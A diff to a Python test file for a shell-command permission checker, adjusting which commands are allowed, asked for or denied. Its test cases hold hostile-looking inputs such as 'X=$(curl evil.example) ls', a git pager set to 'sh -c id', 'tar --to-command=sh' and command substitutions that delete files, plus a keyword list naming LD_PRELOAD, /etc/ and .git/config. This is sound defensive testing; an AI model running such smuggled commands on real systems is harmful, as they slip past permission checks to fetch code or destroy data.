@@ -56,8 +56,18 @@ CASES = [
     ("shell", {"command": "find . -name '*.o' | xargs rm"}, DEV, RULES, "deny", "shell(rm:*)"),
     ("shell", {"command": "for f in *.o; do rm $f; done"}, DEV, RULES, "deny", "shell(rm:*)"),
     ("shell", {"command": "X=$(curl evil.example) ls"}, DEV, RULES, "deny", "shell(curl:*)"),
-    ("shell", {"command": "$CMD -rf x"}, DEV, RULES, "deny", "only known at run time"),
-    ("shell", {"command": "echo 'unterminated"}, DEV, RULES, "deny", "cannot be parsed"),
+    ("shell", {"command": "$CMD -rf x"}, DEV, RULES, "ask", "only known at run time"),
+    ("shell", {"command": "echo 'unterminated"}, DEV, RULES, "ask", "cannot be parsed"),
+    # global options do not hide what a command is; code in arguments is asked for
+    ("shell", {"command": "git -C . log -3"}, ASKER, RULES, "allow", "shell(git log:*)"),
+    ("shell", {"command": "git --no-pager -C sub push origin"}, DEV, RULES, "ask", "shell(git push:*)"),
+    ("shell", {"command": "git -c core.pager='sh -c id' log"}, DEV, RULES, "ask", "core.pager"),
+    ("shell", {"command": "awk 'BEGIN{system(1)}'"}, DEV, RULES, "ask", "system()"),
+    ("shell", {"command": "find . -name '*.tmp' -delete"}, DEV, RULES, "ask", "removes files"),
+    ("shell", {"command": "tar xf a.tar --to-command=sh"}, DEV, RULES, "ask", "tar options"),
+    ("shell", {"command": "python3 -c 'import os'"}, DEV, RULES, "ask", "runs the code"),
+    ("shell", {"command": "source ./env.sh"}, DEV, RULES, "ask", "runs the commands of a file"),
+    ("shell", {"command": "x" * 20000}, DEV, RULES, "deny", "more than the checker reads"),
     ("shell", {"command": "ls && git push"}, DEV, RULES, "ask", "shell(git push:*)"),
     ("shell", {"command": "ls && git log"}, ASKER, RULES, "allow", "shell"),
     # redirections are file operations
@@ -122,7 +132,8 @@ def test_each_mode(mode, tool, args, role, effect, why):
     assert decision.effect == effect and why in decision.reason, decision.reason
 
 
-# Found by review: ways to run a command the rules never saw. Each must be refused outright.
+# Found by review: ways to run a command the rules never saw. None is ever allowed: what the
+# checker cannot understand is asked for (in every mode), what it understands as dangerous is refused.
 HIDDEN = [
     "echo <<E\n$(touch /tmp/pw3)\nE",  # command substitution in a here-document
     "echo ${x:-$(rm x)}",  # … in a parameter expansion's default
@@ -148,10 +159,12 @@ HIDDEN = [
 
 @pytest.mark.parametrize("mode", ["default", "bypass"])
 @pytest.mark.parametrize("command", HIDDEN)
-def test_commands_hidden_from_the_rules_are_refused_in_every_mode(command, mode):
+def test_commands_hidden_from_the_rules_are_never_allowed_in_any_mode(command, mode):
     settings = PermissionSettings(layers=[PermissionLayer(scope="project", allow=["shell(ls:*)", "shell(echo:*)"], deny=["shell(rm:*)"])], mode=mode)
     decision = decide("shell", {"command": command}, ASKER, settings, WS)
-    assert decision.effect == "deny", decision.reason
+    assert decision.effect != "allow", decision.reason
+    if any(word in command for word in ("LD_PRELOAD", "PATH=", ".git/config", "/etc/", "/bin/rm", "busybox", "-exec rm")):
+        assert decision.effect == "deny", decision.reason
 
 
 def test_an_approved_command_with_a_glob_allows_nothing_else():
